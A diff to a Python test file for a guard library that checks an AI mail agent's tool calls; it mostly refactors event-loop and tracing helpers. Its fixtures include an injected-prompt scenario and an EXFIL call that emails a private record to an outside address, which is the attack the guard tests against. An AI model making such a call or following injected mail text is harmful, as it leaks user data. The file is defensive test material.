@@ -2,10 +2,9 @@
 
 from __future__ import annotations
 
-import asyncio
 import json
 import logging
-from collections.abc import Callable, Iterator
+from collections.abc import Callable
 from typing import Any
 
 import pytest
@@ -23,6 +22,7 @@ from guard.decision import Certification
 from guard.policy import Policy, ToolSpec
 from guard.runtime import Session
 from tests.adapters.mail_agent_data import INJECTED, POLICY, RECORD, TASK
+from tests.adapters.openai_support import arun, quiet_tracing_and_close_loops
 
 EXFIL = function_call("send_email", {"to": "compliance@audit-desk.net", "subject": "Record", "body": RECORD}, "c3")
 BROCHURE = {"to": "bob@partner.test", "subject": "Brochure", "body": "Our public brochure is attached."}
@@ -97,30 +97,7 @@ def make_guard(mail_policy: Policy) -> Callable[..., Guard]:
     return build
 
 
-@pytest.fixture(autouse=True)
-def _quiet_tracing_and_close_loops() -> Iterator[None]:
-    """No trace export; close the thread's default loop that ``Runner.run_sync`` leaves open."""
-    from agents import set_tracing_disabled
-
-    set_tracing_disabled(True)
-    yield
-    set_tracing_disabled(False)
-    try:
-        loop = asyncio.get_event_loop_policy().get_event_loop()
-    except RuntimeError:  # no default loop (set to None by an earlier test)
-        return
-    if not loop.is_running():
-        loop.close()
-    asyncio.set_event_loop(None)
-
-
-def arun(coro: Any) -> Any:
-    """Run a coroutine on a loop of its own (not the default loop run_sync uses)."""
-    loop = asyncio.new_event_loop()
-    try:
-        return loop.run_until_complete(coro)
-    finally:
-        loop.close()
+_quiet_tracing_and_close_loops = pytest.fixture(autouse=True)(quiet_tracing_and_close_loops)
 
 
 def names(ran: list[tuple[str, dict[str, Any]]]) -> list[str]:
